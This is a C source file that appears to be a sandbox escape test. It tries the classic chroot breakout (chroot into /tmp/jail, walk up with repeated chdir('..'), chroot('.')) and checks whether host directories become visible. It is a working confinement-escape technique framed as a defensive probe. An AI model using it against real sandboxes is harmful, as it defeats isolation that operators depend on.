// The classic chroot escape: chroot into a subdirectory while keeping the cwd outside it, then
// walk up with chdir("..") and chroot(".") past the sandbox root.
#include <sys/stat.h>

#include "attack.h"
int main(void) {
  mkdir("/tmp/jail", 0700);
  attempt("chroot /tmp/jail", chroot("/tmp/jail"));
  for (int i = 0; i < 64; i++) chdir("..");
  attempt("chroot .", chroot("."));
  // After a successful escape the host's root would have e.g. /root or /home or /work.
  if (access("/work", F_OK) == 0 || access("/root", F_OK) == 0 || access("/home", F_OK) == 0)
    escaped_because("host directories (/work,/root or /home) visible after chroot walk");
  return finish("chroot refused; host tree not reachable");
}
